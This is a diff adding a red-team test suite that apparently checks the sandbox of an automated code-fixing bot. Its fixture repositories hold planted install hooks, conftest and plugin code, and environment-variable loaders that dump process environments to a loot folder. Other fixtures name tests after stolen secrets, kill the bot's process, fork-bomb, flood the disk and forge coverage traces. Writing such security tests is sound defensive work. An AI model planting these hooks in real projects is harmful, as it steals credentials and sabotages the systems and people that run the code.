@@ -1,0 +1,356 @@
+// The hostile (and honest) repositories of the red-team suite. Each holds a small real bug
+// the template strategy can fix (so the bot goes all the way to its commit, where planted
+// hooks would fire) and tests that attack; attacks run at collection and report through
+// the ids of passing tests (see assets/rtlib.*): never failing, never in fault localisation.
+import { asset, type RepoSpec } from "./redteam.ts";
+
+const PY_BUG = {
+  "calc.py": "def add(a, b):\n    return a - b\n",
+  "tests/__init__.py": "",
+  "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
+};
+
+const PY_PRELUDE = "import os\nimport sys\n\nROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nsys.path.insert(0, ROOT)\nimport rtlib  # noqa: E402\n\n";
+
+/** Python: /proc, env, writes everywhere, data dir, git planting, egress, a daemon, conftest.py and a setup.cfg plugin. */
+export function pyHostile(): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "rtlib.py": asset("rtlib.py"),
+      // Runs at collection, before any test: the earliest code a repository controls.
+      "conftest.py": 'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("conftest-%d" % os.getpid()), "env": rtlib.scan_env()["hits"]}\n',
+      // setup.cfg loads a plugin of the repository's own through addopts.
+      "setup.cfg": "[tool:pytest]\naddopts = -p rt_plugin\npythonpath = .\n",
+      "rt_plugin.py": 'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("setupcfg-%d" % os.getpid())}\n',
+      "tests/test_zz_attacks.py":
+        PY_PRELUDE +
+        [
+          "import pytest  # noqa: E402",
+          "",
+          "EVIDENCE = [",
+          '    rtlib.evidence("proc", rtlib.scan_proc()),',
+          '    rtlib.evidence("env", rtlib.scan_env()),',
+          '    rtlib.evidence("write", rtlib.write_outside("pytest-%d" % os.getpid())),',
+          '    rtlib.evidence("datadir", {"found": rtlib.read_data_dir()}),',
+          '    rtlib.evidence("git", rtlib.plant_git(ROOT)),',
+          '    rtlib.evidence("egress", rtlib.egress()),',
+          '    rtlib.evidence("daemon", rtlib.daemon(ROOT)),',
+          '    rtlib.evidence("conftest", sys.modules["conftest"].RESULT),',
+          '    rtlib.evidence("setupcfg", sys.modules["rt_plugin"].RESULT),',
+          "]",
+          "",
+          "",
+          '@pytest.mark.parametrize("ev", EVIDENCE, ids=EVIDENCE)',
+          "def test_rt(ev):",
+          '    assert ev.startswith("RTEV:")',
+          "",
+        ].join("\n"),
+    },
+  };
+}
+
+/** Honest Python tests: a local HTTP server on 127.0.0.1 and ::1, sockets, temp files, a subprocess, threads. */
+export function pyHonest(): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "tests/test_local.py": [
+        "import http.server",
+        "import socket",
+        "import subprocess",
+        "import sys",
+        "import tempfile",
+        "import threading",
+        "import urllib.request",
+        "",
+        "",
+        "class Hello(http.server.BaseHTTPRequestHandler):",
+        "    def do_GET(self):",
+        "        self.send_response(200)",
+        "        self.end_headers()",
+        "        self.wfile.write(b'hello')",
+        "",
+        "    def log_message(self, *args):",
+        "        pass",
+        "",
+        "",
+        "def fetch(family, host, url_host):",
+        "    class Server(http.server.ThreadingHTTPServer):",
+        "        address_family = family",
+        "",
+        "    server = Server((host, 0), Hello)",
+        "    thread = threading.Thread(target=server.serve_forever, daemon=True)",
+        "    thread.start()",
+        "    try:",
+        "        port = server.server_address[1]",
+        "        with urllib.request.urlopen('http://%s:%d/' % (url_host, port), timeout=5) as response:",
+        "            return response.read()",
+        "    finally:",
+        "        server.shutdown()",
+        "",
+        "",
+        "def test_http_server_ipv4_loopback():",
+        "    assert fetch(socket.AF_INET, '127.0.0.1', '127.0.0.1') == b'hello'",
+        "",
+        "",
+        "def test_http_server_ipv6_loopback():",
+        "    assert fetch(socket.AF_INET6, '::1', '[::1]') == b'hello'",
+        "",
+        "",
+        "def test_localhost_name_resolves_to_loopback():",
+        "    assert socket.gethostbyname('localhost') == '127.0.0.1'",
+        "",
+        "",
+        "def test_socketpair_tempfile_subprocess():",
+        "    a, b = socket.socketpair()",
+        "    a.sendall(b'ping')",
+        "    assert b.recv(4) == b'ping'",
+        "    with tempfile.NamedTemporaryFile() as handle:",
+        "        handle.write(b'x' * 1000)",
+        "        handle.flush()",
+        "    out = subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True, check=True)",
+        "    assert out.stdout.strip() == '42'",
+        "",
+      ].join("\n"),
+    },
+  };
+}
+
+const JS_BUG = {
+  "calc.js": "function add(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add };\n",
+  "test/calc.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\nconst { add } = require("../calc.js");\n\ntest("adds", () => {\n  assert.strictEqual(add(2, 3), 5);\n});\n\ntest("adds zero", () => {\n  assert.strictEqual(add(4, 0), 4);\n});\n',
+};
+
+/**
+ * JavaScript: /proc, env, writes, egress, a daemon, the worktree's `.git` replaced by a
+ * directory, lifecycle scripts, and an honest loopback server. The failing test is named
+ * after what the /proc scan stole (hex): the bot itself then prints the secrets wherever
+ * it names the failing test (report, PR body, status comment).
+ */
+export function jsHostile(): RepoSpec {
+  const lifecycle = (name: string) => `node lifecycle.cjs ${name}`;
+  return {
+    source: "calc.js",
+    files: {
+      ...JS_BUG,
+      "test/calc.test.js": [
+        'const test = require("node:test");',
+        'const assert = require("node:assert");',
+        'const { add } = require("../calc.js");',
+        'const rt = require("../rtlib.cjs");',
+        "",
+        "// Stable across the bot's runs (the same secrets, sorted), so the bot can select the test by name.",
+        'const stolen = [...new Set(rt.scanProc().environ_hits.map((h) => h[1]).filter((v) => v.includes("RTCANARY")))].sort();',
+        'const suffix = stolen.length ? ` ${rt.evidence("name", { stolen }).slice("RTEV:name:".length)}` : "";',
+        "",
+        "test(`adds${suffix}`, () => {",
+        "  assert.strictEqual(add(2, 3), 5);",
+        "});",
+        "",
+        'test("adds zero", () => {',
+        "  assert.strictEqual(add(4, 0), 4);",
+        "});",
+        "",
+      ].join("\n"),
+      "rtlib.cjs": asset("rtlib.js.txt"),
+      "lifecycle.cjs": 'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\ntry {\n  fs.writeFileSync(path.join(conf.loot, `lifecycle-${process.argv[2]}.txt`), JSON.stringify(process.env));\n} catch {}\n',
+      "package.json": `${JSON.stringify(
+        {
+          name: "hostile",
+          version: "1.0.0",
+          private: true,
+          scripts: { preinstall: lifecycle("preinstall"), postinstall: lifecycle("postinstall"), prepare: lifecycle("prepare"), pretest: lifecycle("pretest"), test: `${lifecycle("test-prefix")} && node --test`, posttest: lifecycle("posttest") },
+        },
+        null,
+        2,
+      )}\n`,
+      "test/zz-attacks.test.js": [
+        'const test = require("node:test");',
+        'const assert = require("node:assert");',
+        'const http = require("node:http");',
+        'const path = require("node:path");',
+        'const { spawnSync } = require("node:child_process");',
+        'const rt = require("../rtlib.cjs");',
+        'const ROOT = path.join(__dirname, "..");',
+        "",
+        "const PROC = rt.scanProc();",
+        "const EVIDENCE = [",
+        '  rt.evidence("proc", PROC),',
+        '  rt.evidence("env", rt.scanEnv()),',
+        '  rt.evidence("write", rt.writeOutside(`node-${process.pid}`)),',
+        '  rt.evidence("egress", JSON.parse(spawnSync(process.execPath, [path.join(ROOT, "rtlib.cjs"), "egress"], { encoding: "utf8" }).stdout || "{}")),',
+        '  rt.evidence("daemon", rt.daemon()),',
+        '  rt.evidence("gitswap", rt.swapGitDir(ROOT)),',
+        '  rt.evidence("tamper", { result: rt.tamperFix(ROOT, PROC.environ_hits.map((h) => h[1])) }),',
+        "];",
+        "for (const ev of EVIDENCE) test(ev, () => assert.ok(ev.startsWith(\"RTEV:\")));",
+        "",
+        "for (const host of ['127.0.0.1', '::1']) {",
+        "  test(`honest http server on ${host}`, async () => {",
+        "    const server = http.createServer((req, res) => res.end('hello'));",
+        "    await new Promise((resolve) => server.listen(0, host, resolve));",
+        "    try {",
+        "      const url = `http://${host.includes(':') ? `[${host}]` : host}:${server.address().port}/`;",
+        "      assert.strictEqual(await (await fetch(url)).text(), 'hello');",
+        "    } finally {",
+        "      server.close();",
+        "    }",
+        "  });",
+        "}",
+        "",
+      ].join("\n"),
+    },
+  };
+}
+
+/** A test that kills its parent and the bot itself when it can see it, and leaves a process behind. */
+export function pyKiller(tag: string): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      "calc.py": "def add(a, b):\n    return a + b\n",
+      "tests/test_killer.py": [
+        "import os",
+        "import signal",
+        "import subprocess",
+        "import sys",
+        "",
+        "",
+        "def ancestors():",
+        "    pid, out = os.getppid(), []",
+        "    while pid > 1:",
+        "        out.append(pid)",
+        "        with open('/proc/%d/status' % pid) as handle:",
+        "            pid = int([l for l in handle if l.startswith('PPid:')][0].split()[1])",
+        "    return out",
+        "",
+        "",
+        "def test_kill_parent_and_bot():",
+        "    subprocess.Popen([sys.executable, '-c', 'import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(120)', " + JSON.stringify(tag) + "], start_new_session=True)",
+        "    for pid in ancestors():",
+        "        try:",
+        "            with open('/proc/%d/cmdline' % pid, 'rb') as handle:",
+        "                cmd = handle.read()",
+        "        except OSError:",
+        "            continue",
+        "        # The immediate parent, and the bot (never the harness above it).",
+        "        if pid == os.getppid() or b'autogen.js' in cmd:",
+        "            try:",
+        "                os.kill(pid, signal.SIGKILL)",
+        "            except OSError:",
+        "                pass",
+        "",
+        "",
+        "def test_add():",
+        "    from calc import add",
+        "    assert add(1, 2) == 3",
+        "",
+      ].join("\n"),
+    },
+  };
+}
+
+/** A fork bomb (bounded: 1,000 processes) and a disk flood (80 files, 1.25 GiB in all), each once per worktree. */
+export function pyResources(): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "rtlib.py": asset("rtlib.py"),
+      "tests/test_zz_resources.py":
+        PY_PRELUDE +
+        [
+          "import pytest  # noqa: E402",
+          "",
+          "EVIDENCE = []",
+          'if rtlib.once(ROOT, "forkbomb"):',
+          '    EVIDENCE.append(rtlib.evidence("forkbomb", rtlib.fork_bomb(1000)))',
+          'if rtlib.once(ROOT, "diskflood"):',
+          '    EVIDENCE.append(rtlib.evidence("diskflood", rtlib.disk_flood(os.path.join(ROOT, "build", "flood"))))',
+          "",
+          "",
+          '@pytest.mark.parametrize("ev", EVIDENCE or ["RTEV:none:"], ids=EVIDENCE or ["RTEV:none:"])',
+          "def test_rt(ev):",
+          '    assert ev.startswith("RTEV:")',
+          "",
+        ].join("\n"),
+    },
+  };
+}
+
+/** A test that sleeps far past the one-minute limit and ignores SIGTERM. */
+export function pyHang(tag: string): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      "calc.py": "def add(a, b):\n    return a + b\n",
+      ".github/autogen.yml": "test:\n  timeoutMinutes: 1\n",
+      "tests/test_hang.py": `import signal\nimport time\n\n\ndef test_sleeps_forever():\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    tag = ${JSON.stringify(tag)}\n    time.sleep(3600)\n`,
+    },
+  };
+}
+
+/** The repository's config sets a variable that would run the repository's code before the tests (NODE_OPTIONS, PYTHONSTARTUP). */
+export function envConfig(variable: "NODE_OPTIONS" | "PYTHONSTARTUP", value: string): RepoSpec {
+  const js = variable === "NODE_OPTIONS";
+  return {
+    source: js ? "calc.js" : "calc.py",
+    files: {
+      ...(js ? { ...JS_BUG, "package.json": '{ "name": "envconfig", "private": true, "scripts": { "test": "node --test" } }\n' } : PY_BUG),
+      ".github/autogen.yml": `test:\n  env:\n    ${variable}: ${JSON.stringify(value)}\n`,
+      "evil.py": "import json, os\nconf = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'rtconf.json')))\nopen(os.path.join(conf['loot'], 'envconfig.txt'), 'w').write(json.dumps(dict(os.environ)))\n",
+      "evil.cjs": 'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\nfs.writeFileSync(path.join(conf.loot, "envconfig.txt"), JSON.stringify(process.env));\n',
+    },
+  };
+}
+
+/** The buggy source is a symbolic link to a file outside the repository (in the sentinel tree). */
+export function pySymlinkSource(): RepoSpec {
+  return {
+    source: "calc.py",
+    files: { "tests/__init__.py": "", "tests/test_calc.py": PY_BUG["tests/test_calc.py"] },
+  };
+}
+
+/**
+ * The coverage trace forged: conftest.py, at exit (after the bot's pytest plugin wrote its
+ * trace to AUTOGEN_TRACE_OUT), adds lines of a file outside the worktree to the failing
+ * test's coverage as a relative path (`../…`), so fault localisation points there. (An
+ * absolute path there crashes the bot today: joined to the worktree, ENOENT, uncaught.)
+ */
+export function pyForgedTrace(victim: string): RepoSpec {
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "conftest.py": [
+        "import atexit",
+        "import json",
+        "import os",
+        "",
+        "ROOT = os.path.dirname(os.path.abspath(__file__))",
+        `VICTIM = ${JSON.stringify(victim)}`,
+        "",
+        "",
+        "def forge():",
+        "    out = os.environ.get('AUTOGEN_TRACE_OUT')",
+        "    if not out or not os.path.exists(out):",
+        "        return",
+        "    with open(out) as handle:",
+        "        trace = json.load(handle)",
+        "    for entry in trace.values():",
+        "        if entry.get('outcome') != 'passed':",
+        "            entry.setdefault('lines', {})[os.path.relpath(VICTIM, ROOT)] = [1, 2]",
+        "    with open(out, 'w') as handle:",
+        "        json.dump(trace, handle)",
+        "",
+        "",
+        "atexit.register(forge)",
+        "",
+      ].join("\n"),
+    },
+  };
+}
